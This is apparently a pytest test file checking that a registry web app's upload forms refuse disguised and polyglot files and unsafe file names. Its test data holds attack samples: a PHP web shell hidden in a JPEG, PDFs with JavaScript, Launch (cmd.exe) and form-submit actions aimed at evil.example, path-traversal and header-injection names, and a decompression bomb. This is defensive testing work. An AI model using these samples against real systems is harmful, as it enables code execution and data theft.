"""Hostile uploads through the real forms (PRODUCT §13, §14): disguised files, archives and
polyglots refused by content, size caps, names never trusted, downloads never rendered.
(The helper's unit tests are in tests/core/test_uploads.py.)"""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registry.applications.models import ApplicationFile
from registry.applications.targets import target_key
from registry.commitments.models import CreditCommitment
from registry.core.errors import ValidationFailed
from registry.core.seeding import demo_pdf
from registry.core.uploads import check_upload, upload_path
from registry.objections import operations as objection_ops
from tests.conftest import count
from tests.factories import valid_uscc
from tests.files import (
    JPEG,
    PDF,
    PNG,
    exif,
    incremental_update,
    jpeg_segments,
    jpeg_size,
    pdf,
    pdf_with_object_stream,
    png,
    png_chunks,
    with_exif,
)


def _zip(name="a.txt", content=b"x") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _utf16(text: str, order: str = "le") -> bytes:
    return text.encode(f"utf-16-{order}")


def _password_pdf(user: str, owner: str) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password=user, owner_password=owner, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _link(action: bytes) -> dict:
    return {"page": b"/Annots [4 0 R]", "objects": (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action
                                                   + b" >>",)}


def _annotation(subtype: bytes, extra: bytes = b"") -> dict:
    return {"page": b"/Annots [4 0 R]",
            "objects": (b"<< /Type /Annot /Subtype /" + subtype + b" /Rect [0 0 10 10] " + extra + b" >>",)}


JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"

# Refused, each with the kind of reason the page gives (issue 22's thirteen, then issue 30's).
HOSTILE = {
    "html named pdf": (b"<html><script>alert(1)</script></html>", "letter.pdf"),
    "svg named png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "photo.png"),
    "zip": (_zip(), "letter.pdf"),
    "docx (a zip)": (_zip("word/document.xml", b"<w/>"), "letter.docx"),
    "pdf with a zip appended": (PDF + _zip(), "letter.pdf"),
    "png with a zip appended": (PNG + _zip(), "photo.png"),
    "windows executable": (b"MZ\x90\x00" + b"\x00" * 64, "letter.pdf"),
    "gif": (b"GIF89a" + b"\x00" * 32, "photo.gif"),
    "empty": (b"", "letter.pdf"),
    "pdf header not at the start": (b"\n" + PDF, "letter.pdf"),
    "pdf that is also a web page": (PDF + b"\n<html><body><script>alert(1)</script></body></html>", "letter.pdf"),
    "jpeg carrying php": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php system($_GET['c']); ?>\xff\xd9", "photo.jpg"),
    "pdf with an open action in javascript": (pdf(catalog=b"/OpenAction 4 0 R", objects=(JS,)), "letter.pdf"),
    # what got through a list of byte patterns.
    "pdf carrying svg onload": (pdf(between=b'%<svg onload="alert(1)">\n'), "letter.pdf"),
    "pdf carrying img onerror": (pdf(between=b'%<img src=x onerror="alert(1)">\n'), "letter.pdf"),
    "pdf carrying a utf-16 script": (pdf(between=b"%" + _utf16("<script>alert(1)</script>") + b"\n"), "letter.pdf"),
    "pdf carrying a big-endian utf-16 script": (pdf(between=b"%" + _utf16("<SCRIPT>", "be") + b"\n"), "letter.pdf"),
    "pdf carrying a truncated zip header": (pdf(between=b"%PK\x03\x04\x14\x00\x00\x00\n"), "letter.pdf"),
    "pdf with /#4aavaScript": (pdf(catalog=b"/OpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>"), "a.pdf"),
    "pdf with /#4caunch": (pdf(catalog=b"/OpenAction << /S /#4caunch /F (cmd.exe) >>"), "letter.pdf"),
    # More active content, each where a PDF reader finds it.
    "pdf javascript name tree": (pdf(catalog=b"/Names << /#4A#61vaScript << /Names [(x) 4 0 R] >> >>",
                                     objects=(JS,)), "letter.pdf"),
    "pdf additional action on the page": (pdf(page=b"/#41A << /O << /S /JavaScript /JS (x) >> >>"), "letter.pdf"),
    "pdf additional action on a link": (pdf(page=b"/Annots [4 0 R]", objects=(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E 5 0 R >> >>", JS)), "letter.pdf"),
    "pdf embedded file": (pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", objects=(
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")), "letter.pdf"),
    "pdf embedded file stream alone": (pdf(objects=(b"<< /Type /Embedded#46ile /Subtype /application#2Fx-msdownload "
                                                    b"/Length 2 >>\nstream\nMZ\nendstream",)), "letter.pdf"),
    "pdf file attachment annotation": (pdf(**_annotation(b"FileAttachment", b"/FS (a.exe)")), "letter.pdf"),
    "pdf xfa form": (pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                         objects=(b"<< /Length 5 >>\nstream\n<xdp>\nendstream",)), "letter.pdf"),
    "pdf rich media": (pdf(**_annotation(b"RichMedia")), "letter.pdf"),
    "pdf 3d annotation": (pdf(**_annotation(b"3D")), "letter.pdf"),
    "pdf screen annotation": (pdf(**_annotation(b"Screen")), "letter.pdf"),
    "pdf link to javascript:": (pdf(**_link(b"<< /S /URI /URI (  JavaScript:alert(1)) >>")), "letter.pdf"),
    "pdf submit form": (pdf(**_link(b"<< /S /SubmitForm /F (https://evil.example/) >>")), "letter.pdf"),
    "pdf import data": (pdf(**_link(b"<< /S /ImportData /F (data.fdf) >>")), "letter.pdf"),
    "pdf go to another file": (pdf(**_link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")), "letter.pdf"),
    "pdf opening a web page": (pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"), "a.pdf"),
    "pdf javascript in an object stream": (pdf_with_object_stream(
        b"<< /S /#4aavaScript /JS (app.alert(1)) >>", catalog=b"/OpenAction 5 0 R"), "letter.pdf"),
    "pdf launch added by an update": (incremental_update(PDF, 3, b"<< /Type /Page /Parent 2 0 R /MediaBox "
                                                                 b"[0 0 9 9] /AA << /O << /S /Launch /F (x) >> >> >>"),
                                      "letter.pdf"),
    "pdf object outside the cross-reference table": (pdf(between=b"9 0 obj\n<< /S /#4A#61vaScript /JS (x) >>\n"
                                                                 b"endobj\n"), "letter.pdf"),
    "pdf with data after its end": (pdf(tail=b"\x00\x01\x02 not white space"), "letter.pdf"),
    "pdf with a password": (_password_pdf("user-secret", "owner-secret"), "letter.pdf"),
    "pdf cut short": (PDF[:len(PDF) // 2] + b"\n%%EOF\n", "letter.pdf"),
    "pdf that is only a header": (b"%PDF-1.7\n%%EOF\n", "letter.pdf"),
    "png carrying script in a text chunk": (png(extra=((b"tEXt", b"Comment\x00<script>alert(1)</script>"),)),
                                            "photo.png"),
    "png cut short": (PNG[:40], "photo.png"),
    "png whose pixels are not there": (png(idat=zlib.compress(b"\x00\x80")), "photo.png"),
    "png decompression bomb": (png(8000, 8000, idat=zlib.compress(b"\x00" * 100)), "photo.png"),
    "jpeg cut short": (JPEG[:len(JPEG) // 2], "photo.jpg"),
    "jpeg with a rar appended": (JPEG + b"Rar!\x1a\x07\x00" + b"\x00" * 20, "photo.jpg"),
    "pdf with a 7z appended": (PDF + b"7z\xbc\xaf\x27\x1c\x00\x04", "letter.pdf"),
}

REASONS = ("PDF, JPEG or PNG", "markup or script", "is empty", "required", "active content", "could not be read",
           "password", "follows the end of the PDF", "million pixels")

# Accepted: inert PDFs kept byte for byte, images kept as their pixels.
INNOCENT_PDFS = {
    "one page": PDF,
    "opening at a page": pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "opening by a go-to action": pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "a link to a web page": pdf(**_link(b"<< /S /URI /URI (https://www.mot.gov.cn/) >>")),
    "an incremental update": incremental_update(PDF, 3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>"),
    "padded after its end": pdf(tail=b"\r\n\x00\x00\x00 "),
    "an object stream": pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=b"/OpenAction 5 0 R"),
    "an owner password only": _password_pdf("", "owner-secret"),
    "made by reportlab": None,  # drawn in the test (it needs the application's fonts)
}


# --- the upload paths: each prepares what its form needs and returns (send(data, name), the model of
# the rows that keep files) ---------------------------------------------------------------------------


def _commitment(client, make, login):
    login("clerk")
    return (lambda data, name: _post_commitment(client, data, name)), CreditCommitment


def _applicant(**fields) -> dict:
    return {"applicant_kind": "organisation", "applicant_name": "湖南某运输公司", "applicant_identifier": valid_uscc(),
            "phone": "0731-88880000", **fields}


def _objection(client, make, login):
    record = target_key(make.entry("published"))

    def send(data, name):
        form = _applicant(record=record, email="", grounds="认定有误。", files=[(io.BytesIO(data), name)])
        return client.post("/objections/new?lang=en", data=form, content_type="multipart/form-data")
    return send, ApplicationFile


def _repair(client, make, login):
    record = target_key(make.repairable_entry())

    def send(data, name):
        form = _applicant(record=record, representative_name="张三", representative_role="legal_representative",
                          statement="已整改。", application_form=(io.BytesIO(data), name),
                          commitment_letter=(io.BytesIO(PDF), "承诺书.pdf"),
                          fulfilment_proof=(io.BytesIO(PDF), "履行证明.pdf"))
        return client.post("/repairs/new?lang=en", data=form, content_type="multipart/form-data")
    return send, ApplicationFile


def _material(client, make, login):
    objection, code = make.objection()
    objection_ops.request_material(objection, make.user("clerk"), objection.version, "请补充证明材料。")
    receipt = objection.receipt_number
    assert client.post("/objections/status", data={"receipt_number": receipt, "access_code": code}).status_code == 302

    def send(data, name):
        return client.post(f"/objections/status/{receipt}/material?lang=en", content_type="multipart/form-data",
                           data={"files": [(io.BytesIO(data), name)], "note": ""}, follow_redirects=True)
    return send, ApplicationFile


PATHS = {"commitment letter (officer)": _commitment, "objection (public)": _objection,
         "repair application (public)": _repair, "material sent later (applicant)": _material}


def _post_commitment(client, data: bytes, filename: str):
    return client.post("/officer/commitments/new?lang=en", content_type="multipart/form-data", data={
        "subject_identifier": valid_uscc(), "subject_name": "某公司", "kind": "licensing",
        "signed_on": "2026-04-01", "file": (io.BytesIO(data), filename)})


def _stored_files(app) -> set[str]:
    found = set()
    for folder, _dirs, files in os.walk(app.config["UPLOAD_FOLDER"]):
        found |= {os.path.join(folder, name) for name in files}
    return found


def _read(path: str) -> bytes:
    with open(path, "rb") as handle:
        return handle.read()


@pytest.mark.parametrize("path", sorted(PATHS))
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_file_is_refused_on_every_upload_path_and_nothing_is_kept(app, client, make, login, frozen,
                                                                            path, case):
    data, filename = HOSTILE[case]
    with frozen(date(2026, 5, 1)):
        send, model = PATHS[path](client, make, login)
        rows, files = count(model), _stored_files(app)
        response = send(data, filename)
    assert response.status_code in (200, 400), response.status_code
    html = response.get_data(as_text=True)
    assert any(reason in html for reason in REASONS), html[:3000]
    assert count(model) == rows
    new = _stored_files(app) - files
    held = os.path.join(app.config["UPLOAD_FOLDER"], "held") + os.sep
    assert all(name.startswith(held) for name in new), new  # only the form's other, good files are held
    assert data not in {_read(name) for name in new}


@pytest.mark.parametrize("path", sorted(PATHS))
@pytest.mark.parametrize("case", sorted(INNOCENT_PDFS))
def test_an_inert_pdf_is_accepted_on_every_path_and_kept_byte_for_byte(app, client, make, login, frozen, path, case):
    data = INNOCENT_PDFS[case] or demo_pdf("信用承诺书", ["湖南某运输有限公司", "承诺守法诚信经营。"])
    with frozen(date(2026, 5, 1)):
        send, model = PATHS[path](client, make, login)
        rows, files = count(model), _stored_files(app)
        response = send(data, "证明.pdf")
    assert response.status_code in (200, 302), response.get_data(as_text=True)[:2000]
    assert count(model) > rows
    stored = {_read(name) for name in _stored_files(app) - files}
    assert data in stored


def _stored_bytes(app, before: set[str]) -> list[bytes]:
    return [_read(name) for name in _stored_files(app) - before if "/held/" not in name]


def test_an_image_is_stored_as_its_pixels_only(app, client, make, login, frozen):
    """Re-encoded: nothing after the image, no text chunks or EXIF (a camera's GPS position goes too),
    turned upright by its EXIF orientation."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 2), (200, 30, 30)).save(buffer, "JPEG")
    sideways = with_exif(buffer.getvalue(), exif(6, note=b"GPS 28.19N 112.97E\x00")) + b"trailing bytes"
    tagged_png = png(extra=((b"tEXt", b"Author\x00someone"), (b"zTXt", b"Comment\x00\x00" + zlib.compress(b"x"))),
                     tail=b"trailing bytes")
    login("clerk")
    with frozen(date(2026, 5, 1)):
        before = _stored_files(app)
        assert _post_commitment(client, sideways, "photo.jpg").status_code == 302
        (jpeg,) = _stored_bytes(app, before)
        before = _stored_files(app)
        assert _post_commitment(client, tagged_png, "scan.png").status_code == 302
        (stored_png,) = _stored_bytes(app, before)
    assert 0xE1 not in jpeg_segments(jpeg) and b"GPS" not in jpeg  # no APP1 (EXIF) segment
    assert jpeg_size(jpeg) == (2, 4)  # orientation 6: rotated a quarter turn, as a viewer shows it
    assert png_chunks(stored_png) == [b"IHDR", b"IDAT", b"IEND"]  # and nothing after IEND


@pytest.mark.parametrize("filename", ["../../x.pdf", "..\\..\\x.pdf", "/etc/passwd", "C:\\Windows\\x.pdf",
                                      "a\x00b.pdf", "evil\r\nContent-Type: text/html.pdf", "x.pdf.html",
                                      "我的承诺书.pdf", "." * 300 + ".pdf"])
def test_file_names_are_never_used_as_paths_nor_echoed_in_headers(app, client, login, frozen, db, filename):
    login("clerk")
    root = os.path.realpath(app.config["UPLOAD_FOLDER"])
    before = _stored_files(app)
    with frozen(date(2026, 5, 1)):
        response = _post_commitment(client, PDF, filename)
    if response.status_code == 200:  # the multipart parser could not read such a name: no file, refused
        assert "\r" in filename and "required" in response.get_data(as_text=True)
        assert _stored_files(app) == before
        return
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    new = _stored_files(app) - before
    assert len(new) == 1
    path = os.path.realpath(new.pop())
    assert path.startswith(root + os.sep) and os.path.basename(path)[:-4].isalnum()
    commitment = db.session.get(CreditCommitment, int(response.location.rstrip("/").rsplit("/", 1)[1]))
    download = client.get(f"/officer/commitments/{commitment.id}/file")
    assert download.status_code == 200 and download.data == PDF
    assert download.mimetype == "application/pdf"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment") and "\r" not in disposition and "\n" not in disposition
    assert "/" not in disposition.split("filename", 1)[1] and ".." not in disposition
    assert download.headers["X-Content-Type-Options"] == "nosniff"


def test_an_oversized_request_is_refused_before_it_is_read(app, client, login):
    login("clerk")
    limit = app.config["MAX_CONTENT_LENGTH"]
    app.config["MAX_CONTENT_LENGTH"] = 1024
    try:
        response = _post_commitment(client, PDF + b"0" * 4096, "big.pdf")
    finally:
        app.config["MAX_CONTENT_LENGTH"] = limit
    assert response.status_code == 413


def test_a_file_over_the_per_file_cap_is_refused_naming_it():
    with pytest.raises(ValidationFailed) as refused:
        check_upload(PDF + b"0" * 2048, max_bytes=1024, filename="../../big.pdf", field="file")
    assert "big.pdf" in str(refused.value.message) and "../" not in str(refused.value.message)


@pytest.mark.parametrize("name", ["../x.pdf", "commitments/../../etc/passwd", "/etc/passwd",
                                  "commitments/" + "0" * 32 + ".exe", "commitments/" + "0" * 32 + ".pdf/.."])
def test_stored_names_that_are_not_ours_are_refused(app, name):
    with app.app_context(), pytest.raises(ValueError):
        upload_path(name)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=st.sampled_from([b"%PDF-", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"PK", b"", b"GIF8"]),
       body=st.binary(max_size=300), zipped=st.booleans())
def test_any_bytes_are_accepted_only_as_a_pdf_jpeg_or_png_without_an_archive(prefix, body, zipped):
    data = prefix + body + (_zip() if zipped else b"")
    try:
        kind = check_upload(data, max_bytes=10_000)
    except ValidationFailed:
        return
    assert data.startswith((b"%PDF-", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n")) and kind
    assert not zipped
